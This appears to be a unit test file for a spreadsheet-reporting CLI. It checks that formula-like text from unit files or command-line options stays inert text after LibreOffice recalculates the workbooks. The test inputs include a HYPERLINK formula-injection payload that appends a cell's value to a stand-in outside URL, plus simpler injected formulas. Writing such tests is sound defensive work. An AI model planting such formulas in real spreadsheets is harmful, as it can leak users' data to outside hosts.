/**
 * Issue 15 item 1: text from a unit's file or the command line that starts like a formula lands
 * in the merged and template workbooks as text. LibreOffice (headless) recalculates every formula
 * on load; a live formula would show its result ("Bấm", 5), a text shows itself.
 */
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import ExcelJS from "exceljs";
import { mergeFiles } from "../../src/cli/merge";
import { sheetPlanWorkbook } from "../../src/cli/xlsx-write";
import { DEFAULT_SETTINGS } from "../../src/core/model";
import { templateSheet } from "../../src/core/templates";
import { run } from "./helpers";
import { recalculated } from "./soffice";
import { filledTemplateFile, type TemplateLine } from "./workbooks";

const work = mkdtempSync(path.join(tmpdir(), "chitieu-inj-"));
afterAll(() => rmSync(work, { recursive: true, force: true }));

const HYPERLINK = '=HYPERLINK("http://x.example/?x="&E2,"Bấm")';
const SUM = "+2+3";
const AT = "@SUM(1,1)";

/** Cells ExcelJS reads back as formulas: must be only the ones core generated (SUM, IFERROR, …). */
async function formulaTexts(file: string): Promise<string[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const found: string[] = [];
  wb.worksheets[0]!.eachRow((row) =>
    row.eachCell((cell) => {
      if (cell.type === ExcelJS.ValueType.Formula) found.push(String(cell.formula));
    }),
  );
  return found;
}

function unitFile(name: string, unitLine: string, indicator: string, group: string): Promise<string> {
  const lines: TemplateLine[] = [
    [indicator, "doanh nghiệp", 50, 61, 48],
    ["Thu ngân sách", "tỷ đồng", 120.5, 131.25, 110],
  ];
  return filledTemplateFile(path.join(work, `${name}.xlsx`), unitLine, lines, group);
}

test("a merged workbook keeps formula-like names, groups and unit names as text after LibreOffice recalculates", async () => {
  const a = await unitFile("a", "Đơn vị: =1+1", HYPERLINK, SUM);
  const b = await unitFile("b", "Đơn vị: Phường 2", HYPERLINK, SUM);
  const out = path.join(work, "tong-hop.xlsx");
  await mergeFiles([a, b], out, DEFAULT_SETTINGS, "vi");

  const formulas = await formulaTexts(out);
  expect(formulas.length).toBeGreaterThan(0);
  expect(formulas.filter((f) => /HYPERLINK|^2\+3|@/.test(f))).toEqual([]);

  const lo = recalculated(out, work).flat();
  expect(lo).toContain(HYPERLINK);
  expect(lo).toContain(SUM);
  expect(lo).not.toContain("Bấm");
}, 240_000);

test("a template's --unit and a person's name starting with =, + or @ stay text in LibreOffice", async () => {
  const out = path.join(work, "mau.xlsx");
  const r = await run("template", "trong", "--unit", "=2+3", "--out", out);
  expect(r.code).toBe(0);
  const plan = templateSheet("trong", { settings: DEFAULT_SETTINGS, year: 2021, unitName: AT });
  const atFile = path.join(work, "mau-at.xlsx");
  await sheetPlanWorkbook(plan).xlsx.writeFile(atFile);

  expect((await formulaTexts(out)).filter((f) => f === "2+3")).toEqual([]);
  const lo = recalculated(out, work);
  expect(lo[1]?.[0]).toBe("=2+3");
  expect(recalculated(atFile, work)[1]?.[0]).toBe(AT);
}, 240_000);
